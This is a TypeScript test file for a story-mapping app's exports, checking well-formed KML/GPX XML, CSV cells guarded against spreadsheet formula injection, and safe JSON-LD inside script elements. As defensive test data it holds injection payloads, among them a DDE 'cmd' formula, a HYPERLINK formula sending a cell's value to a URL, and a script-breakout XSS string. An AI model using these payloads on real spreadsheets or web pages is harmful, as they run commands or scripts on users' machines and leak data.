import * as fc from "fast-check";
import Papa from "papaparse";
import { SaxesParser } from "saxes";
import { describe, expect, test } from "vitest";
import type { Story } from "../../../src/core/story.ts";
import { guarded, unguarded } from "../../../src/formats/csv-guard.ts";
import { EXPORT_FORMATS } from "../../../src/formats/export/write-export.ts";
import { inScript } from "../../../src/formats/json.ts";
import { hunted } from "../../hunt.ts";
import { loadStoryFromDisk } from "../../stories.ts";
import { withOver180 } from "./over-180.ts";

const pasni = withOver180(loadStoryFromDisk("pasni-port"));

/** The story with a text in every place where a file can put one: names, notes, sources, keys and values of its own. */
const saying = (text: string): Story => ({
  ...pasni,
  places: {
    ...pasni.places,
    features: pasni.places.features.map((place) => ({
      ...place,
      properties: {
        ...place.properties,
        name: text,
        names: { en: text },
        notes: text,
        source: text,
        description: text,
        [text]: text,
      },
    })),
  },
  routes: {
    ...pasni.routes,
    features: pasni.routes.features.map((route) => ({
      ...route,
      properties: { ...route.properties, name: text, notes: text, source: text, madeBy: text, [text]: text },
    })),
  },
});
const written = (format: keyof typeof EXPORT_FORMATS, text: string): string => {
  const { content } = EXPORT_FORMATS[format].write(saying(text));
  if (typeof content !== "string") throw new Error("a text was wanted");
  return content;
};

/** What XML 1.0 (2.2) has a letter for; else U+FFFD. */
const asXml = (text: string): string =>
  [...text]
    .map((letter) => {
      const code = letter.codePointAt(0) ?? 0;
      const isLetter =
        [9, 10, 13].includes(code) ||
        (code >= 0x20 && code <= 0xd7ff) ||
        (code >= 0xe000 && code <= 0xfffd) ||
        code >= 0x10000;
      return isLetter ? letter : "\ufffd";
    })
    .join("");

/** Every text of a document, as a strict parser reads it: whatever is not well-formed throws. */
const textsIn = (xml: string): string[] => {
  const texts: string[] = [];
  let current = "";
  const parser = new SaxesParser({ xmlns: true });
  parser.on("error", (error) => {
    throw error;
  });
  parser.on("opentag", ({ attributes }) => {
    current = "";
    texts.push(...Object.values(attributes).map(({ value }) => value));
  });
  parser.on("text", (text) => {
    current += text;
  });
  parser.on("closetag", () => {
    texts.push(current);
    current = "";
  });
  parser.write(xml).close();
  return texts;
};

const TEXTS = [
  "\u0001",
  "a]]>b",
  "\ud800",
  "a\udfffb",
  "\uffff\ufffe",
  "&amp;<b>\"'",
  "a\r\nb\tc",
  "</name><Placemark>",
  "<!-- -- -->",
  "<?xml?>",
  "&#1;&x;",
  "\u0000\u0008\u000b\u001f\u007f\u0085",
  "港 \u{1f6a2}",
];
const anyText = fc.string({
  unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
  minLength: 1,
});

describe.each(["kml", "gpx"] as const)("%s is well-formed XML 1.0, whatever a story says", (format) => {
  test.each(TEXTS)("%j", (text) => {
    const texts = textsIn(written(format, text));
    expect(texts).toContain(asXml(text));
    expect(texts.filter((each) => each === asXml(text)).length).toBeGreaterThan(pasni.places.features.length);
  });

  test("any letters", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(textsIn(written(format, text))).toContain(asXml(text));
      }),
      { seed: 20251115, numRuns: hunted(30, 2000) },
    );
  });
});

/** What a spreadsheet takes for a formula (OWASP, "CSV Injection"), also behind what it passes over. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "=1+1\nx",
  "=1+1\r\nx",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "\n=1",
  " =1",
  "\u00a0=1",
  "\ufeff=1",
  "\u200b=1",
  "\u0000=1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=",
  "-",
  '=HYPERLINK("http://example.org?x="&A1)',
  "'=1",
  "\tx",
  "\nx",
];
const NO_FORMULAS = ["a=1", "", "x", "-5", "+5", "-5.25", "-5,25", "'x", "1-2", "a\n=1", "港"];

describe("csv: no cell is a formula to a spreadsheet", () => {
  test.each(FORMULAS)("%j is guarded in every column, and comes back", (text) => {
    const { data } = Papa.parse<string[]>(written("csv", text));
    const cells = data.flat();
    expect(cells).not.toContain(text);
    expect(cells.filter((cell) => cell === `'${text}`).length).toBeGreaterThan(pasni.places.features.length);
    expect(unguarded(`'${text}`)).toBe(text);
  });

  test.each(NO_FORMULAS)("%j stays as it is", (text) =>
    expect([guarded(text), unguarded(text)]).toEqual([text, text]),
  );

  test("degrees stay numbers", () => {
    const { data } = Papa.parse<Record<string, string>>(written("csv", "x"), { header: true });
    expect(data.find(({ id }) => id === "pentagon")).toMatchObject({ longitude: "-77.05596" });
  });

  test("whatever a cell says, it comes back, and begins with nothing that is run", () => {
    fc.assert(
      fc.property(fc.oneof(anyText, fc.constantFrom(...FORMULAS)), (text) => {
        expect(unguarded(guarded(text))).toBe(text);
        expect(/^[-+]?[\d.,]+$/.test(guarded(text)) || !/^[=+\-@\t\r\n]/.test(guarded(text))).toBe(true);
      }),
      { seed: 20251115, numRuns: hunted(500, 50_000) },
    );
  });
});

describe("JSON-LD may stand in a page's script element", () => {
  test.each(["</script><script>alert(1)</script>", "<!--<script>", "</SCRIPT x>", "]]>", "\u2028"])(
    "%j",
    (text) => {
      for (const format of ["lpf", "annotations"] as const) {
        expect(written(format, text)).not.toContain("<");
        expect(JSON.stringify(JSON.parse(written(format, text)))).toContain(
          JSON.stringify(text).slice(1, -1),
        );
      }
      expect(JSON.parse(inScript(JSON.stringify({ text })))).toEqual({ text });
    },
  );
});
